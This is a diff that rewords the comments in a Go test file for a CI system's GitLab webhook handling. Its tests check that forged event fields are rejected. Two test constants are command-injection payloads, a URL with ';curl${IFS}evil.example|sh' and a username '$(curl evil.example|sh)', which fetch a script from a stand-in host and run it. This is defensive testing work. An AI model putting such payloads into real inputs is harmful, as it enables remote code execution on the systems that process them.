@@ -19,8 +19,8 @@ import (
 	forgelab "github.com/plumbline-ci/plumbline/test/forge/gitlab"
 )
 
-// believed are the fields that planning takes from a delivery, and why a lie in them gains nothing.
-// All others are GitLab's, or the event starts nothing.
+// believed are the fields that planning takes from a delivery, and why a false value in them gains
+// nothing. All others are read from GitLab, or the event starts nothing.
 var believed = map[string]string{
 	"Provider": "the decoder's constant", "InstallationID": "GitHub's", "Body": "GitHub's", "Rerun": "GitHub's",
 	"Project.CloneURL": "of other services",
@@ -37,7 +37,7 @@ var believed = map[string]string{
 	"Headers":     "expressions read them as they read the body, which is the sender's word (docs/gitlab.md)",
 }
 
-// forgeries are the events that Complete confirms, by what they are about.
+// forgeries are the events that Complete confirms, by kind.
 func forgeries(t *testing.T) map[string]func() (bench, *v1alpha1.GitEventSpec) {
 	t.Helper()
 	request := func(b bench, iid int64) *v1alpha1.GitEventSpec {
@@ -92,7 +92,7 @@ func forgeries(t *testing.T) map[string]func() (bench, *v1alpha1.GitEventSpec) {
 	}
 }
 
-// planned completes an event as planning does, with a login for the project that it names.
+// planned completes an event as planning does, with a login for its project.
 func (b bench) planned(t *testing.T, event *v1alpha1.GitEventSpec) (*v1alpha1.GitEventSpec, error) {
 	t.Helper()
 	login := provider.Credentials{Token: b.token.Value, Reach: loopback()}
@@ -103,8 +103,8 @@ func (b bench) planned(t *testing.T, event *v1alpha1.GitEventSpec) (*v1alpha1.Gi
 	return client.Complete(t.Context(), event)
 }
 
-// Whoever knows a webhook's token can send any body. Each field of the event in turn says something
-// else than GitLab does.
+// Anybody who knows a webhook's token can send any body. Each field of the event in turn
+// contradicts GitLab.
 func TestCompleteTrustsNoUnconfirmedField(t *testing.T) {
 	reasons := map[string]bool{}
 	for name, open := range forgeries(t) {
@@ -139,8 +139,8 @@ func reasonFor(path string) string {
 	return ""
 }
 
-// fields calls for each field below a struct, with what forges it in another struct of the same
-// shape.
+// fields calls f for each field below a struct, with a function that forges it in another struct of
+// the same type.
 func fields(v reflect.Value, path string, each func(path string, set func(reflect.Value))) {
 	for i := range v.NumField() {
 		name, field := v.Type().Field(i).Name, v.Field(i)
@@ -155,7 +155,7 @@ func fields(v reflect.Value, path string, each func(path string, set func(reflec
 	}
 }
 
-// forgeIn changes a value to what nobody has sent.
+// forgeIn changes a value to a false one.
 func forgeIn(v reflect.Value) {
 	const evil = "https://evil.example/app;curl${IFS}evil.example|sh"
 	switch v.Kind() {
@@ -182,8 +182,7 @@ func forgeIn(v reflect.Value) {
 	}
 }
 
-// A fork that the token may not read has no address that GitLab vouches for. One 404 may be a
-// replica's.
+// A fork that the token may not read has no confirmed address. One 404 may be from a stale replica.
 func TestCompleteReadsForkURL(t *testing.T) {
 	event := func(b bench, iid int64) *v1alpha1.GitEventSpec {
 		return b.decode(b.MergeRequestDelivery(forgelab.MergeRequestEvent{Project: testProject, IID: iid}))
@@ -208,7 +207,7 @@ func TestCompleteReadsForkURL(t *testing.T) {
 	}
 }
 
-// A sender is a placeholder of templates, so that it must be a name that GitLab could have given.
+// A sender is a placeholder of templates, so it must be a name that GitLab allows.
 func TestDecodeRefusesInvalidUsernames(t *testing.T) {
 	const evil = `"username": "$(curl evil.example|sh)"`
 	for file, c := range map[string]struct{ event, old, field string }{
